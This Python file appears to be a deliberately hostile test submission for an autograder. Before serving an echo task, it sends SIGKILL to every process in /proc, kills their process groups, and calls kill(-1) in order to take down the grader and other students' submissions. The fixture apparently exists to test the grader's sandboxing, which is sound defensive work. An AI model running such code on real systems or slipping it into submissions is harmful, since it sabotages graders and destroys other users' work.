# Hostile submission: before serving, it tries to kill every process it can see (each
# pid in /proc, each process group, then kill(-1, SIGKILL): everything it may signal),
# hoping to take down the grader or classmates graded at the same time. Then it serves
# correctly (what it earns for echoing is deserved).
import os
import signal
import sys

from hostile_echo import serve

me, my_group = os.getpid(), os.getpgrp()
killed, refused = [], 0
for name in os.listdir("/proc"):
    if not name.isdigit() or int(name) == me:
        continue
    pid = int(name)
    try:
        os.kill(pid, signal.SIGKILL)
        killed.append(pid)
    except OSError:
        refused += 1
    try:
        group = os.getpgid(pid)
        if group != my_group:
            os.killpg(group, signal.SIGKILL)
    except OSError:
        pass
try:
    os.kill(-1, signal.SIGKILL)  # every process this user may signal, except itself
    everyone = "sent"
except OSError as exc:
    everyone = f"refused: {exc}"
print(f"killed {killed}, refused {refused}, kill(-1): {everyone}", flush=True)

serve(int(sys.argv[1]))
